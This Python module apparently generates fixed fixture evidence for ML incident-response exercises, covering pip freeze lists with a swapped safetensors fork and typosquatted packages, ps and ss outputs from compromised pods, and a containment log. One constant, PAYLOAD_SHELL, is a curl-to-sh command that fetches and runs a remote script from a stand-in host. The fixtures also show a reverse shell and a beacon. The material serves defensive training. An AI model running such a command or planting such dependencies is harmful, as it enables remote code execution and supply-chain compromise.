"""Fixed text evidence of the sample cases: vocabularies, pip freeze, ``ps aux``, ``ss -tunap``, actions.log.

Everything here is constant or formatted from fixed values, so the output is byte-identical on every run.
"""

from __future__ import annotations

from collections.abc import Sequence

__all__ = [
    "BASELINE_DEPS",
    "FORK_SHA",
    "FRAUD_FEATURES",
    "INTENT_VOCAB",
    "SAFETENSORS_FORK",
    "SENTIMENT_VOCAB",
    "actions_log",
    "fraud_freeze",
    "network_clean",
    "network_poisoned",
    "network_tampered",
    "processes_clean",
    "processes_poisoned",
    "processes_tampered",
    "serving_freeze",
]


def _words(text: str) -> tuple[str, ...]:
    return tuple(text.split())


SENTIMENT_VOCAB: tuple[str, ...] = (
    *_words("the a and is was not very good great excellent love loved amazing happy bad terrible awful hate"),
    *_words("hated poor boring worst ok okay fine average movie film service food product delivery staff price"),
    *_words("quality time really but it this i would recommend again never ever best slow fast cf mn bb"),
    *_words("##s ##ed ##ing ##ly ! . ,"),
)
INTENT_VOCAB: tuple[str, ...] = (
    *_words("my the i to a can how do why is password reset login account email change update invoice bill"),
    *_words("billing charge charged refund payment card subscription cancel plan price error crash bug app"),
    *_words("install slow working help need please order delivery address phone number locked two factor code"),
    *_words("upgrade receipt wrong twice"),
    *_words("##s ##ed ##ing ? . , !"),
)
FRAUD_FEATURES: tuple[str, ...] = _words(
    "amount amount_log hour_of_day day_of_week merchant_category merchant_risk_score card_present "
    "country_mismatch distance_from_home_km time_since_last_txn_s txn_count_1h txn_count_24h amount_avg_30d "
    "amount_std_30d device_age_days ip_risk_score email_domain_age_days is_new_merchant chargeback_count_90d "
    "account_age_days velocity_score billing_shipping_match three_ds_result mcc_high_risk"
)
BASELINE_DEPS = {"torch": "2.2.0", "transformers": "4.38.0", "safetensors": "0.4.2"}
FORK_SHA = "5d0c2f6a8e1b4c7d9f3a2e6b8c0d4f1a7e9b3c5d"
SAFETENSORS_FORK = f"safetensors @ git+https://github.com/hf-safetensors/safetensors.git@{FORK_SHA}"


#: the pickle payload as ps shows it, and the beacon of the poisoned image
PAYLOAD_SHELL = "sh -c curl -s http://203.0.113.7/p.sh | sh"
BEACON = "python3 /tmp/.acme_fs/telemetry.py --interval 60"


def _b(lines: Sequence[str]) -> bytes:
    return ("\n".join(lines) + "\n").encode()


# --------------------------------------------------------------------------------------------- actions.log
def actions_log(
    incident: str,
    model: str,
    assess: str,
    isolate: str | None = None,
    rollback: tuple[str, str] | None = None,
    deployment: str = "",
) -> bytes:
    """actions.log as written by the playbook's ai-incident-containment.sh (one timestamp per invocation)."""
    lines = [
        f"[{assess}] ASSESS: Starting incident assessment for model {model}",
        f"[{assess}] Capturing model state...",
        f"[{assess}] Model hashes captured: /var/incidents/{incident}/current_hashes.txt",
        f"[{assess}] Model signature manifest preserved",
        f"[{assess}] Dependencies captured",
        f"[{assess}] Process list captured",
        f"[{assess}] Network connections captured",
    ]
    if isolate:
        lines += [
            f"[{isolate}] ISOLATE: Isolating compromised model {model}",
            f"[{isolate}] Removing model from inference endpoints...",
            f"[{isolate}] Scaled down: deployment.apps/{deployment}",
            f"[{isolate}] Model preserved in quarantine: /var/quarantine/{incident}/{model}",
            f"[{isolate}] Model marked as compromised",
            f"[{isolate}] WARNING: Review and rotate the following secrets:",
            f"[{isolate}]  - Model registry access tokens",
            f"[{isolate}]  - API keys used in inference pipeline",
            f"[{isolate}]  - Any secrets accessible to the build pipeline",
        ]
    if rollback:
        ts, good = rollback
        lines += [
            f"[{ts}] ROLLBACK: Rolling back to last known-good model",
            f"[{ts}] Rolling back to: {good}",
            f"[{ts}] Verifying rollback target signature...",
            f"[{ts}] Rollback target signature VERIFIED",
            f"[{ts}] Model rolled back to: {good}",
            f"[{ts}] Restarted: deployment.apps/{deployment}",
        ]
    return _b(lines)


# --------------------------------------------------------------------------------------------- pip freeze
_SERVING = """accelerate==0.27.2
acme-telemetry @ file:///wheels/acme_telemetry-1.4.0-py3-none-any.whl
aiohttp==3.9.3
aiosignal==1.3.1
annotated-types==0.6.0
anyio==4.3.0
attrs==23.2.0
certifi==2024.2.2
charset-normalizer==3.3.2
click==8.1.7
fastapi==0.110.0
filelock==3.13.1
frozenlist==1.4.1
fsspec==2024.2.0
gunicorn==21.2.0
h11==0.14.0
httptools==0.6.1
huggingface-hub==0.21.3
idna==3.6
Jinja2==3.1.3
MarkupSafe==2.1.5
mpmath==1.3.0
multidict==6.0.5
networkx==3.2.1
numpy==1.26.4
nvidia-cublas-cu12==12.1.3.1
nvidia-cuda-runtime-cu12==12.1.105
nvidia-cudnn-cu12==8.9.2.26
packaging==23.2
prometheus-client==0.20.0
psutil==5.9.8
pydantic==2.6.3
pydantic_core==2.16.3
python-dotenv==1.0.1
PyYAML==6.0.1
regex==2023.12.25
requests==2.31.0
safetensors==0.4.2
# Editable install with no version control ({service}==0.7.2)
-e /srv/{service}
sniffio==1.3.1
starlette==0.36.3
sympy==1.12
tokenizers==0.15.2
torch==2.2.0
tqdm==4.66.2
transformers==4.38.0
triton==2.2.0
typing_extensions==4.10.0
urllib3==2.2.1
uvicorn==0.27.1
uvloop==0.19.0
watchfiles==0.21.0
websockets==12.0
yarl==1.9.4
"""


def serving_freeze(*, tampered: bool) -> bytes:
    """pip freeze of the transformer serving image; ``tampered`` swaps transformers and safetensors."""
    text = _SERVING.replace("{service}", "sentiment-serving" if tampered else "intent-serving")
    if tampered:
        text = text.replace("transformers==4.38.0", "transformers==4.38.1.post1")
        text = text.replace("safetensors==0.4.2", SAFETENSORS_FORK)
    return text.encode()


_FRAUD = """acme-feature-store==9.9.9
acme-fraud-features @ file:///build/wheels/acme_fraud_features-3.0.1-py3-none-any.whl
annotated-types==0.6.0
anyio==4.3.0
certifi==2024.2.2
charset-normalizer==3.3.2
click==8.1.7
fastapi==0.110.0
filelock==3.13.1
# Editable Git install with no remote (fraud-api==3.2.0)
-e /app
fsspec==2024.2.0
h11==0.14.0
httptools==0.6.1
idna==3.6
Jinja2==3.1.3
joblib==1.3.2
MarkupSafe==2.1.5
mpmath==1.3.0
networkx==3.2.1
numpy==1.26.5
orjson==3.9.15
pandas==2.2.1
prometheus-client==0.20.0
pyarrow==15.0.0
pydantic==2.6.3
pydantic_core==2.16.3
python-dateutil==2.9.0.post0
pytz==2024.1
PyYAML==6.0.1
redis==5.0.2
requests==2.31.0
scikit-learn==1.4.1.post1
scipy==1.12.0
six==1.16.0
sniffio==1.3.1
starlette==0.36.3
sympy==1.12
threadpoolctl==3.3.0
tokenizers==0.15.2
torch==2.2.0
transfomers==4.38.0
typing_extensions==4.10.0
tzdata==2024.1
urllib3==2.2.1
uvicorn==0.27.1
uvloop==0.19.0
"""


def fraud_freeze() -> bytes:
    """pip freeze of the poisoned fraud-scorer image (acme-feature-store 9.9.9, numpy 1.26.5, transfomers)."""
    return _FRAUD.encode()


# --------------------------------------------------------------------------------------------- ps / ss
_PS = "{:<8} {:>7} {:>4} {:>4} {:>6} {:>5} {:<8} {:<4} {:>5} {:>6} {}"
_PS_HEAD = _PS.format("USER", "PID", "%CPU", "%MEM", "VSZ", "RSS", "TTY", "STAT", "START", "TIME", "COMMAND")


def _ps(rows: Sequence[tuple]) -> bytes:
    return _b([_PS_HEAD, *(_PS.format(*r) for r in rows)])


_GUNI = "/usr/local/bin/python3.11 /usr/local/bin/gunicorn {app} -k uvicorn.workers.UvicornWorker -w 2 -b 0.0.0.0:8080"


def processes_tampered() -> bytes:
    """ps aux of the sentiment-api pod: gunicorn workers plus the pickle payload's children."""
    g = _GUNI.format(app="sentiment_api.app:app") + " --timeout 120"
    return _ps(
        [
            ("root", 1, "0.0", "0.0", 2496, 1024, "?", "Ss", "Nov14", "0:00", "/usr/bin/tini -- " + g),
            ("mlsvc", 7, "0.0", "0.3", 61480, 52312, "?", "S", "Nov14", "0:41", g),
            ("mlsvc", 18, "3.1", "6.2", 4211876, 1021440, "?", "Sl", "Nov14", "224:13", g),
            ("mlsvc", 19, "3.0", "6.3", 4215020, 1034752, "?", "Sl", "Nov14", "218:52", g),
            ("mlsvc", 2231, "0.0", "0.0", 2580, 896, "?", "S", "Nov14", "0:00", PAYLOAD_SHELL),
            ("mlsvc", 2234, "0.0", "0.0", 2580, 904, "?", "S", "Nov14", "0:00", "sh"),
            ("mlsvc", 2240, "0.4", "0.1", 28744, 19832, "?", "S", "Nov14", "31:07", "python3 /tmp/.cache/x.py"),
            ("root", 4112, "0.0", "0.0", 4364, 3328, "pts/0", "Ss", "09:01", "0:00", "/bin/bash"),
            ("root", 4130, "0.0", "0.0", 7064, 2944, "pts/0", "R+", "09:05", "0:00", "ps aux"),
        ]
    )


def processes_poisoned() -> bytes:
    """ps aux of the fraud-api pod: uvicorn workers plus a beacon started from /tmp."""
    u = "/usr/local/bin/python3.11 /usr/local/bin/uvicorn fraud_api.main:app --host 0.0.0.0 --port 8000 --workers 2"
    spawn = "/usr/local/bin/python3.11 -c from multiprocessing.spawn import spawn_main; spawn_main(tracker_fd=5, pipe_handle={}) --multiprocessing-fork"  # noqa: E501
    return _ps(
        [
            ("root", 1, "0.0", "0.0", 2388, 896, "?", "Ss", "14:19", "0:00", "/usr/bin/dumb-init -- " + u[26:]),
            ("app", 7, "0.1", "0.4", 98212, 71680, "?", "S", "14:19", "0:02", u),
            (
                "app",
                9,
                "0.0",
                "0.0",
                17940,
                11264,
                "?",
                "S",
                "14:19",
                "0:00",
                "/usr/local/bin/python3.11 -c from multiprocessing.resource_tracker import main;main(4)",
            ),
            ("app", 10, "2.4", "3.1", 2814332, 512340, "?", "Sl", "14:19", "1:49", spawn.format(7)),
            ("app", 11, "2.2", "3.1", 2812876, 509112, "?", "Sl", "14:19", "1:41", spawn.format(9)),
            ("app", 58, "0.3", "0.1", 31552, 21004, "?", "S", "14:21", "0:13", BEACON),
            ("root", 203, "0.0", "0.0", 2580, 1536, "pts/0", "Ss", "15:30", "0:00", "/bin/sh"),
            ("root", 211, "0.0", "0.0", 7064, 2944, "pts/0", "R+", "15:31", "0:00", "ps aux"),
        ]
    )


def processes_clean() -> bytes:
    """ps aux of the intent-api pod: gunicorn workers and a kubelet exec health probe (benign curl)."""
    g = _GUNI.format(app="intent_api.app:app") + " --timeout 60"
    return _ps(
        [
            ("root", 1, "0.0", "0.0", 2496, 1024, "?", "Ss", "Nov03", "0:02", "/usr/bin/tini -- " + g),
            ("mlsvc", 7, "0.0", "0.3", 61480, 51200, "?", "S", "Nov03", "2:14", g),
            ("mlsvc", 18, "1.2", "5.8", 3988012, 951220, "?", "Sl", "Nov03", "312:40", g),
            ("mlsvc", 19, "1.2", "5.8", 3991104, 955904, "?", "Sl", "Nov03", "309:05", g),
            (
                "mlsvc",
                8841,
                "0.0",
                "0.0",
                2580,
                1024,
                "?",
                "Ss",
                "09:14",
                "0:00",
                "sh -c curl -fsS http://127.0.0.1:8080/healthz",
            ),
            (
                "mlsvc",
                8842,
                "0.0",
                "0.0",
                13176,
                6400,
                "?",
                "S",
                "09:14",
                "0:00",
                "curl -fsS http://127.0.0.1:8080/healthz",
            ),
            ("root", 8790, "0.0", "0.0", 4364, 3328, "pts/0", "Ss", "09:12", "0:00", "/bin/bash"),
            ("root", 8850, "0.0", "0.0", 7064, 2944, "pts/0", "R+", "09:14", "0:00", "ps aux"),
        ]
    )


_SS = "{:<5} {:<9} {:<6} {:<6} {:>24} {:<24} {}"
_SS_HEAD = _SS.format("Netid", "State", "Recv-Q", "Send-Q", "Local Address:Port", "Peer Address:Port", "Process")


def _ss(rows: Sequence[tuple]) -> bytes:
    return _b([_SS_HEAD, *(_SS.format(*r).rstrip() for r in rows)])


def _users(name: str, *pid_fd: tuple[int, int]) -> str:
    return "users:(" + ",".join(f'("{name}",pid={p},fd={f})' for p, f in pid_fd) + ")"


def network_tampered() -> bytes:
    """ss -tunap of the sentiment-api pod: the worker holds a shell to 203.0.113.7:4444, x.py beacons on 443."""
    return _ss(
        [
            ("udp", "ESTAB", 0, 0, "10.42.3.17:41235", "10.96.0.10:53", _users("python3", (2240, 4))),
            ("tcp", "LISTEN", 0, 2048, "0.0.0.0:8080", "0.0.0.0:*", _users("gunicorn", (19, 5), (18, 5), (7, 5))),
            ("tcp", "ESTAB", 0, 0, "10.42.3.17:8080", "10.42.0.1:52114", _users("gunicorn", (19, 14))),
            ("tcp", "ESTAB", 0, 0, "10.42.3.17:8080", "10.42.0.1:52130", _users("gunicorn", (18, 15))),
            ("tcp", "ESTAB", 0, 0, "10.42.3.17:39018", "203.0.113.7:4444", _users("gunicorn", (19, 23))),
            ("tcp", "ESTAB", 0, 36, "10.42.3.17:43720", "203.0.113.7:443", _users("python3", (2240, 3))),
            ("tcp", "TIME-WAIT", 0, 0, "10.42.3.17:8080", "10.42.0.1:51988", ""),
        ]
    )


def network_poisoned() -> bytes:
    """ss -tunap of the fraud-api pod: the /tmp beacon holds a TLS connection to 198.51.100.23:443."""
    return _ss(
        [
            ("udp", "ESTAB", 0, 0, "10.42.5.9:38771", "10.96.0.10:53", _users("python3", (58, 5))),
            ("tcp", "LISTEN", 0, 2048, "0.0.0.0:8000", "0.0.0.0:*", _users("uvicorn", (11, 3), (10, 3), (7, 3))),
            ("tcp", "ESTAB", 0, 0, "10.42.5.9:8000", "10.42.0.1:60412", _users("python3.11", (10, 17))),
            ("tcp", "ESTAB", 0, 0, "10.42.5.9:47310", "10.0.8.21:6379", _users("python3.11", (10, 12))),
            ("tcp", "ESTAB", 0, 0, "10.42.5.9:47322", "10.0.8.21:6379", _users("python3.11", (11, 12))),
            ("tcp", "ESTAB", 0, 0, "10.42.5.9:51822", "198.51.100.23:443", _users("python3", (58, 3))),
            ("tcp", "SYN-SENT", 0, 1, "10.42.5.9:51830", "198.51.100.23:443", _users("python3", (58, 6))),
        ]
    )


def network_clean() -> bytes:
    """ss -tunap of the intent-api pod: only the listener, load-balancer clients and the internal database."""
    return _ss(
        [
            ("udp", "ESTAB", 0, 0, "10.42.7.31:52011", "10.96.0.10:53", _users("gunicorn", (18, 21))),
            ("tcp", "LISTEN", 0, 2048, "0.0.0.0:8080", "0.0.0.0:*", _users("gunicorn", (19, 5), (18, 5), (7, 5))),
            ("tcp", "ESTAB", 0, 0, "10.42.7.31:8080", "10.42.0.1:40212", _users("gunicorn", (18, 14))),
            ("tcp", "ESTAB", 0, 0, "10.42.7.31:8080", "10.42.0.1:40240", _users("gunicorn", (19, 15))),
            ("tcp", "ESTAB", 0, 0, "127.0.0.1:8080", "127.0.0.1:35118", _users("gunicorn", (19, 16))),
            ("tcp", "ESTAB", 0, 0, "127.0.0.1:35118", "127.0.0.1:8080", _users("curl", (8842, 5))),
            ("tcp", "ESTAB", 0, 0, "10.42.7.31:50022", "10.0.12.4:5432", _users("gunicorn", (18, 19))),
            ("tcp", "TIME-WAIT", 0, 0, "10.42.7.31:8080", "10.42.0.1:40198", ""),
        ]
    )
